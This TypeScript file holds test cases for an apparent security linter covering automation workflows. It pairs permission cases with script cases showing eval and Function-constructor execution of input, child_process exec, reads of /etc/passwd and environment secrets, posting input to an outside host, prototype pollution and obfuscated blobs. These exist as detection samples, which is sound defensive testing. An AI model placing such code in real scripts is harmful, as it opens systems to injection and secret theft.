/** Permissions and scripts that look harmless or look worse than they are. */
import { flow, step } from '../../kit/flow.ts';
import { agent, call, localBrain, manual, openHook, post, script, signedHook, sql } from '../../kit/steps.ts';
import type { Adversary } from '../cases.ts';
import { agentIn, bound, conn, one } from '../steps.ts';

export const rightsAndCode: Adversary = {
  PM001: {
    fires: [
      [
        'one of three unused',
        one(call('https://api.example.com/orders', {}, 'call', bound), conn({ scopes: ['orders.read', 'customers.read'] })),
      ],
      [
        'disabled user',
        flow(
          [manual(), { ...call('https://api.example.com/orders', {}, 'call', bound), disabled: true }],
          ['start > call'],
          conn({ scopes: ['orders.read'] }),
        ),
      ],
      [
        'admin',
        one(
          call('https://api.github.com/repos/x/y/issues', {}, 'call', bound),
          conn({ hosts: ['api.github.com'], scopes: ['repo', 'admin:org'] }),
        ),
      ],
    ],
    silent: [['used', one(call('https://api.example.com/orders', {}, 'call', bound), conn({ scopes: ['orders.read'] }))]],
  },
  PM002: {
    fires: [
      ['write scope, GET', one(call('https://api.example.com/orders', {}, 'call', bound), conn({ scopes: ['orders.write'] }))],
      [
        'full',
        one(
          call('https://gmail.googleapis.com/gmail/v1/users/me/messages', {}, 'call', bound),
          conn({ hosts: ['gmail.googleapis.com'], scopes: ['https://mail.google.com/'] }),
        ),
      ],
      [
        'ReadWrite.All',
        one(
          call('https://graph.microsoft.com/v1.0/users', {}, 'call', bound),
          conn({ hosts: ['graph.microsoft.com'], scopes: ['User.ReadWrite.All'] }),
        ),
      ],
      ['db user writes? full_access', one(call('https://api.example.com/orders', {}, 'call', bound), conn({ scopes: ['full_access'] }))],
    ],
    silent: [
      ['post', one(post('https://api.example.com/orders', '{}', {}, 'call', bound), conn({ scopes: ['orders.write'] }))],
      ['read', one(call('https://api.example.com/orders', {}, 'call', bound), conn({ scopes: ['orders.read'] }))],
    ],
  },
  PM003: {
    fires: [
      [
        'shared with team',
        flow([manual(), call('https://api.example.com/x', {}, 'call', bound)], ['start > call'], {
          ...conn({ personal: true }),
          sharedWith: 'team',
        }),
      ],
      [
        'everyone',
        flow([manual(), call('https://api.example.com/x', {}, 'call', bound)], ['start > call'], {
          ...conn({ personal: true }),
          sharedWith: 'everyone',
        }),
      ],
    ],
    silent: [
      [
        'private',
        flow([manual(), call('https://api.example.com/x', {}, 'call', bound)], ['start > call'], {
          ...conn({ personal: true }),
          sharedWith: 'private',
        }),
      ],
    ],
  },
  PM005: {
    fires: [
      ['no hosts', one(call('https://api.example.com/x', {}, 'call', bound), conn({ hosts: [] }))],
      ['star', one(call('https://api.example.com/x', {}, 'call', bound), conn({ hosts: ['*'] }))],
    ],
    silent: [['hosts', one(call('https://api.example.com/x', {}, 'call', bound), conn({}))]],
  },
  PM007: {
    fires: [
      [
        'delete tool for lookup',
        agentIn(manual(), [call('https://api.example.com/{{ model.path }}', { method: 'DELETE' }, 'del')], 'Look up the order'),
      ],
      ['mcp all', agentIn(manual(), [step('m', 'mcp-tool', { address: 'https://mcp.example.com' })], 'Look up the order')],
      [
        'write sql tool in a lookup task',
        agentIn(manual(), [sql('{{ model.sql }}', { readOnly: false })], 'Answer questions about orders'),
      ],
    ],
    silent: [
      [
        'read tool',
        agentIn(manual(), [sql('SELECT a FROM t WHERE b = :b', { values: [{ name: 'b', value: '{{ model.b }}' }] })], 'Answer questions'),
      ],
    ],
  },
  PM009: {
    fires: [
      [
        'two constant filters',
        one(
          { ...sql("SELECT name FROM people WHERE country = 'DE' AND active = 1"), connection: 'slot' },
          conn({ type: 'postgres', auth: 'database', hosts: ['db.example.com'] }),
        ),
      ],
    ],
    silent: [
      [
        'computed',
        one(
          { ...sql('SELECT name FROM people WHERE country = :c', { values: [{ name: 'c', value: '{{ input.c }}' }] }), connection: 'slot' },
          conn({ type: 'postgres', auth: 'database', hosts: ['db.example.com'] }),
        ),
      ],
    ],
  },
  PM010: {
    fires: [
      [
        'open chat to sql and answer',
        flow(
          [
            step('chat', 'chat-trigger', {}),
            agent('{{ input.message }}'),
            localBrain(),
            { ...sql('SELECT name FROM orders WHERE id = :id', { values: [{ name: 'id', value: '{{ model.id }}' }] }), connection: 'slot' },
          ],
          ['chat > agent', 'brain -model> agent', 'sql -tool> agent'],
          conn({ type: 'postgres', auth: 'database', hosts: ['db.example.com'] }),
        ),
      ],
      [
        'form to delete',
        flow(
          [
            step('f', 'form-trigger', { fields: [{ name: 'id', label: 'none' }] }),
            call('https://api.example.com/x/{{ input.id }}', { method: 'DELETE' }, 'call', bound),
          ],
          ['f > call'],
          conn({}),
        ),
      ],
    ],
    silent: [
      [
        'signed',
        flow(
          [signedHook(), call('https://api.example.com/x/{{ input.body.text }}', { method: 'DELETE' }, 'call', bound)],
          ['hook > call'],
          conn({}),
        ),
      ],
    ],
  },
  PM013: {
    fires: [['everyone', flow([manual()], [], { sharedWith: 'everyone' })]],
    silent: [
      ['team', flow([manual()], [], { sharedWith: 'team' })],
      ['none', flow([manual()], [])],
    ],
  },
  SC001: {
    fires: [
      ['eval', one(script('return eval(input.x);'))],
      ['Function ctor', one(script('return new Function("a", input.x)(1);'))],
      ['constructor trick', one(script('return [].constructor.constructor(input.x)();'))],
      ['globalThis', one(script('return globalThis["ev" + "al"](input.x);'))],
      ['require cp', one(script('const { exec } = require("child_process"); exec(input.x); return 1;'))],
      ['process', one(script('return { v: process.version };'))],
      ['alias', one(script('const e = eval; return e(input.x);'))],
      ['setTimeout string', one(script('setTimeout("x()", 1); return 1;'))],
      ['Reflect', one(script('return Reflect.construct(Function, [input.x])();'))],
      ['indirect', one(script('return (0, eval)(input.x);'))],
      ['async fn ctor', one(script('const A = Object.getPrototypeOf(async function(){}).constructor; return new A(input.x)();'))],
    ],
    silent: [
      ['comment', one(script('// never eval(input)\nreturn { a: input.a };'))],
      ['string', one(script('return { t: "eval(1)" };'))],
      ['own function', one(script('function process(x) { return x; } return { a: process(input.a) };'))],
      ['property named eval', one(script('return { a: input.eval };'))],
    ],
  },
  SC002: {
    fires: [
      ['fetch alias', one(script('const f = fetch; return await f("https://x.example.com");'))],
      ['globalThis.fetch', one(script('return await globalThis.fetch("https://x.example.com");'))],
      ['XMLHttpRequest', one(script('const r = new XMLHttpRequest(); return 1;'))],
      ['WebSocket', one(script('const w = new WebSocket("wss://x.example.com"); return 1;'))],
      ['require https', one(script('const h = require("https"); h.get("https://x.example.com"); return 1;'))],
      ['axios', one(script('const axios = require("axios"); await axios.post("https://x.example.com", input); return 1;'))],
    ],
    silent: [
      ['own fetch', one(script('const fetch = (x) => x; return { a: fetch(1) };'))],
      ['url text', one(script('return { u: "https://x.example.com" };'))],
    ],
  },
  SC003: {
    fires: [
      ['env bracket', one(script('return { k: process["env"].KEY };'))],
      ['fs promises', one(script('const fs = require("fs/promises"); return { t: await fs.readFile("/etc/passwd", "utf8") };'))],
      ['destructured env', one(script('const { env } = process; return { k: env.KEY };'))],
      ['clipboard', one(script('return { t: await navigator.clipboard.readText() };'))],
    ],
    silent: [['field env', one(script('return { k: input.env };'))]],
  },
  SC005: {
    fires: [
      ['nested quant', one(script('return { ok: new RegExp("^(\\\\w+\\\\s?)*$").test(input.x) };'))],
      ['for(;;)', one(script('for (;;) { input.x; }'))],
      ['do while true', one(script('do { f(); } while (true); function f() {}'))],
      ['overlap alt', one(script('return { ok: /^(a|a)*$/.test(input.x) };'))],
    ],
    silent: [
      ['bounded', one(script('for (let i = 0; i < 10; i++) {} return { a: 1 };'))],
      ['simple regex', one(script('return { ok: /^\\d+$/.test(input.x) };'))],
      ['while queue', one(script('const q = [1]; while (q.length) q.pop(); return { a: 1 };'))],
    ],
  },
  SC006: {
    fires: [['function in eval of public', flow([openHook(), script('return { v: eval(input.body.text) };')], ['hook > script'])]],
    silent: [['eval of constant', flow([openHook(), script('return { v: input.body.text };')], ['hook > script'])]],
  },
  SC009: {
    fires: [
      [
        'assign to config',
        flow(
          [openHook(), script('const config = {}; Object.assign(config, JSON.parse(input.body.text)); return { config };')],
          ['hook > script'],
        ),
      ],
      [
        'deep merge',
        flow(
          [
            openHook(),
            script(
              'function merge(a, b) { for (const k in b) { if (typeof b[k] === "object") merge(a[k] ??= {}, b[k]); else a[k] = b[k]; } return a; } return merge({}, input.body);',
            ),
          ],
          ['hook > script'],
        ),
      ],
      ['proto', flow([openHook(), script('const o = {}; o.__proto__.x = input.body.text; return o;')], ['hook > script'])],
    ],
    silent: [['spread', flow([openHook(), script('return { ...input.body };')], ['hook > script'])]],
  },
  SC010: {
    fires: [
      ['base64 blob', one(script(`const p = atob("${'QWxhZGRpbjpvcGVuIHNlc2FtZQ'.repeat(12)}"); return { p };`))],
      ['hex escapes', one(script('const s = "' + '\\x61\\x62\\x63\\x64'.repeat(20) + '"; return { s };'))],
      [
        'charcodes',
        one(script(`const s = String.fromCharCode(${Array.from({ length: 60 }, (_, i) => 97 + (i % 26)).join(',')}); return { s };`)),
      ],
    ],
    silent: [
      ['normal', one(script('return { a: input.items.map((x) => x.name).join(", ") };'))],
      ['long text', one(script(`return { t: "${'Dear customer, thank you for your order. '.repeat(20)}" };`))],
    ],
  },
};
